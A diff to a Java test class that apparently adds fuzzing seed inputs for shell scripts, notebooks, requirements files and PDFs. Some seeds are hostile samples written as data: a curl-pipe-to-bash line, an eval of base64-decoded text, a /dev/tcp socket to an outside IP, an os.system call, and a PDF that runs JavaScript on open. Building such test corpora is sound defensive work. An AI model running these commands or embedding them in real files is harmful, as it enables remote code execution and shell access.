@@ -107,4 +107,35 @@ final class TextSeeds {
                 "meta_graphs { graph_def { node { name: 'a' op: \"NoOp\" } } }",
                 "saved_model_schema_version: 1 meta_graphs <meta_info_def { tags: ['s'] } graph_def { library { function { signature { name: 'f' } } } } > # c\n");
     }
+
+    static List<byte[]> scripts() {
+        return Seeds.texts(
+                "#!/bin/bash\nset -e\nfor f in *.bin; do echo \"${f%.bin}\" | sort; done\nif [ -f a ]; then python3 -m x; fi\n",
+                "#!/bin/sh\ncurl -s http://45.1.2.3/a | bash\ncat <<EOF\n$(id)\nEOF\n",
+                "x=$(echo aWQ= | base64 -d); eval \"$x\" # c\nfunction f() { case $1 in a|b) exec 3<>/dev/tcp/1.2.3.4/5 ;; esac }\n");
+    }
+
+    static List<byte[]> notebooks() {
+        return Seeds.texts(
+                "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"import os\\n\",\"os.system('id')\"],\"outputs\":[],\"metadata\":{},"
+                        + "\"execution_count\":1}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}",
+                "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":\"# A\",\"metadata\":{}},{\"cell_type\":\"code\",\"source\":\"!ls\\n%time x\","
+                        + "\"outputs\":[{\"output_type\":\"display_data\",\"data\":{\"text/html\":\"<b>\"},\"metadata\":{}}],"
+                        + "\"metadata\":{},\"execution_count\":null}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":2}");
+    }
+
+    static List<byte[]> requirements() {
+        return Seeds.texts(
+                "torch>=2.0,<3 ; python_version >= '3.9'\nnumpy==1.26.4 # c\n-r other.txt\n",
+                "--extra-index-url http://example.org/simple\nx @ git+https://example.org/a/b@main\n-e .\n");
+    }
+
+    static List<byte[]> pdfs() {
+        return Seeds.texts(
+                "%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>\nendobj\n"
+                        + "2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\nxref\n0 1\n0000000000 65535 f \n"
+                        + "trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n9\n%%EOF\n",
+                "%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/#4eames<</A<41>>>>>\nendobj\n"
+                        + "3 0 obj\n<</Length 4>>stream\nq Q\n\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF");
+    }
 }
